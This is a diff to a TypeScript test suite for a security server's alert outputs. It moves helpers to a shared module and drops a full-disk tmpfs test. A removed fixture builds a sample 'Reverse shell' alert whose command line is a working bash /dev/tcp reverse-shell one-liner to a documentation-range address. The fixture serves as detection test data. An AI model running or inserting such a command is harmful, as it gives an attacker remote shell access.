@@ -1,4 +1,3 @@
-// hades-test: runs alone (it mounts a small tmpfs to fill a disk)
 /**
  * The server's alert outputs against real receivers started here on loopback: an HTTP server, a
  * UDP socket, TCP and TLS servers (certificates from the server's own PKI code), and files.
@@ -9,22 +8,19 @@ import { webcrypto } from 'node:crypto';
 import dgram from 'node:dgram';
 import { EventEmitter } from 'node:events';
 import { execFileSync } from 'node:child_process';
-import { closeSync, constants, mkdtempSync, openSync, readFileSync, rmSync, writeFileSync, existsSync } from 'node:fs';
+import { closeSync, constants, openSync, readFileSync, writeFileSync, existsSync } from 'node:fs';
 import http from 'node:http';
 import https from 'node:https';
 import net from 'node:net';
-import { tmpdir } from 'node:os';
 import path from 'node:path';
-import { Writable } from 'node:stream';
 import { after, before, describe, it } from 'node:test';
 import tls from 'node:tls';
-import { Type, type TSchema } from '@sinclair/typebox';
+import { type TSchema } from '@sinclair/typebox';
 import { ALERT_SEVERITIES, AlertOutputsConfig, checkAlertOutputs } from '../../src/common/config/alert-outputs.js';
 import { parseConfig, parseRoleConfig } from '../../src/common/config/index.js';
 import { HadesError } from '../../src/common/errors.js';
 import { SEVERITIES } from '../../src/rules/index.js';
-import { Logger } from '../../src/runtime/log.js';
-import { chatText, createAlertOutputs, type AlertOutputs, type OutputStats } from '../../src/server/alerts/outputs/index.js';
+import { chatText, createAlertOutputs, type AlertOutputs } from '../../src/server/alerts/outputs/index.js';
 import { backoffDelay, OutputQueue } from '../../src/server/alerts/outputs/queue.js';
 import { ResendBuffer } from '../../src/server/alerts/outputs/resend.js';
 import { formatSyslog, SyslogTransport } from '../../src/server/alerts/outputs/syslog.js';
@@ -34,73 +30,9 @@ import type { Alert } from '../../src/server/alerts/types.js';
 import { Pki, x509 } from '../../src/server/pki.js';
 import { HadesServer } from '../../src/server/server.js';
 import { projectRoot } from '../helpers/generated-docs.js';
+import { closeAll, create, LogSink, logger, makeAlert, outputsConfig, quick, retryYaml, sleep, statsOf, tempDir, waitFor, Wrapper } from '../helpers/alert-outputs.js';
 
 // --- helpers -------------------------------------------------------------------------------
-
-const folders: string[] = [];
-function tempDir(): string {
-  const dir = mkdtempSync(path.join(tmpdir(), 'hades-alert-outputs-'));
-  folders.push(dir);
-  return dir;
-}
-
-const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
-
-async function waitFor<T>(what: string, check: () => T | undefined | false, timeoutMs = 5000): Promise<T> {
-  const deadline = Date.now() + timeoutMs;
-  for (;;) {
-    const value = check();
-    if (value !== undefined && value !== false) return value;
-    if (Date.now() > deadline) assert.fail(`timed out waiting for ${what}`);
-    await sleep(10);
-  }
-}
-
-class LogSink extends Writable {
-  text = '';
-  override _write(chunk: Buffer, _encoding: BufferEncoding, callback: () => void): void {
-    this.text += chunk.toString('utf8');
-    callback();
-  }
-  lines(): any[] {
-    return this.text.split('\n').filter((l) => l.startsWith('{')).map((l) => JSON.parse(l));
-  }
-}
-
-function logger(sink = new LogSink()): Logger {
-  return Logger.fromConfig({ level: 'debug', file: null, max_mb: 16, max_files: 1 }, { stream: sink, bytesPerSecond: 0 });
-}
-
-/** The schema as the server mounts it: `alerts.outputs`. */
-const Wrapper = Type.Object(
-  { alerts: Type.Object({ outputs: AlertOutputsConfig }, { additionalProperties: false, default: {} }) },
-  { additionalProperties: false },
-);
-
-function outputsConfig(yaml: string): AlertOutputsConfig {
-  const result = parseConfig(yaml, Wrapper);
-  if (!result.ok) assert.fail(JSON.stringify(result.problems));
-  return result.config.alerts.outputs;
-}
-
-let alertSeq = 0;
-function makeAlert(overrides: Partial<Alert> & { severity?: Alert['rule']['severity'] } = {}): Alert {
-  const { severity, ...rest } = overrides;
-  const n = ++alertSeq;
-  return {
-    id: `3f6c1d2e-0000-4000-8000-${String(n).padStart(12, '0')}`,
-    '@timestamp': '2026-11-28T08:00:00.123Z',
-    last_seen: '2026-11-28T08:00:01.000Z',
-    count: 1,
-    rule: { id: 'hades.reverse_shell', title: 'Reverse shell', severity: severity ?? 'critical', tags: ['attack.t1059.004'], type: 'rule' },
-    message: 'bash connected its stdio to 203.0.113.7:4444',
-    host: { id: 'ag_0123456789abcdef', name: 'web-01' },
-    events: [{ event: { action: 'exec' }, process: { pid: 4242 } }],
-    process: { pid: 4242, executable: '/usr/bin/bash', command_line: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' },
-    status: 'new',
-    ...rest,
-  };
-}
 
 /** A reader of octet-counted syslog frames that pushes the id of each alert into `into`. */
 function frames(into: string[]): (chunk: Buffer) => void {
@@ -116,16 +48,6 @@ function frames(into: string[]): (chunk: Buffer) => void {
   };
 }
 
-const quick = { max_attempts: 5, backoff_ms: 10, backoff_max_ms: 40 };
-const retryYaml = `retry: { max_attempts: ${quick.max_attempts}, backoff_ms: ${quick.backoff_ms}, backoff_max_ms: ${quick.backoff_max_ms} }`;
-
-const open: AlertOutputs[] = [];
-function create(yaml: string, log = logger()): AlertOutputs {
-  const outputs = createAlertOutputs(outputsConfig(yaml), log, { hostname: 'hades-test', random: () => 0.5 });
-  open.push(outputs);
-  return outputs;
-}
-const statsOf = (outputs: AlertOutputs, name: string): OutputStats => outputs.stats().find((s) => s.name === name)!;
 
 async function freePort(): Promise<number> {
   const server = net.createServer();
@@ -311,8 +233,7 @@ before(async () => {
 });
 
 after(async () => {
-  for (const outputs of open.splice(0)) await outputs.close(100);
-  for (const dir of folders.splice(0)) rmSync(dir, { recursive: true, force: true });
+  await closeAll();
   // Every receiver is closed by now: a socket still open is one an output forgot (a half-open
   // connection its receiver ended), which would keep a server's process alive after its close.
   const until = performance.now() + 3_000;
@@ -1900,36 +1821,6 @@ describe('alert outputs: file', () => {
       assert.deepEqual({ sent: statsOf(outputs, 'f').sent, queued: statsOf(outputs, 'f').queued }, { sent: 0, queued: 1 });
     } finally {
       closeSync(reader);
-    }
-  });
-
-  it('on a full disk, takes back the part of a line it wrote, so that the retried line is whole', async (t) => {
-    const dir = tempDir();
-    try {
-      execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=64k', 'tmpfs', dir], { stdio: 'ignore' });
-    } catch {
-      t.skip('cannot mount a tmpfs (needs root)');
-      return;
-    }
-    const file = path.join(dir, 'alerts.ndjson');
-    const outputs = create(`alerts: { outputs: [ { name: f, type: file, ${retryYaml}, file: { path: ${file} } } ] }`);
-    try {
-      const filler = path.join(dir, 'filler');
-      writeFileSync(filler, Buffer.alloc(40 * 1024));
-      // 10 kB each: the third finds about 4 kB left, takes the start of it and refuses the rest.
-      const alerts = Array.from({ length: 4 }, () => makeAlert({ message: 'x'.repeat(10_000) }));
-      for (const alert of alerts) outputs.send(alert);
-      await waitFor('a full disk', () => statsOf(outputs, 'f').last_error?.message.includes('ENOSPC'));
-      assert.equal(statsOf(outputs, 'f').sent, 2);
-      assert.equal(readFileSync(file, 'utf8'), alerts.slice(0, 2).map((a) => `${JSON.stringify(a)}\n`).join(''), 'half a line left in the file');
-      rmSync(filler);
-      await waitFor('every line', () => statsOf(outputs, 'f').sent === 4);
-      await outputs.close();
-      assert.equal(readFileSync(file, 'utf8'), alerts.map((a) => `${JSON.stringify(a)}\n`).join(''));
-      assert.equal(statsOf(outputs, 'f').failed, 0);
-    } finally {
-      await outputs.close(0);
-      execFileSync('umount', [dir]);
     }
   });
 
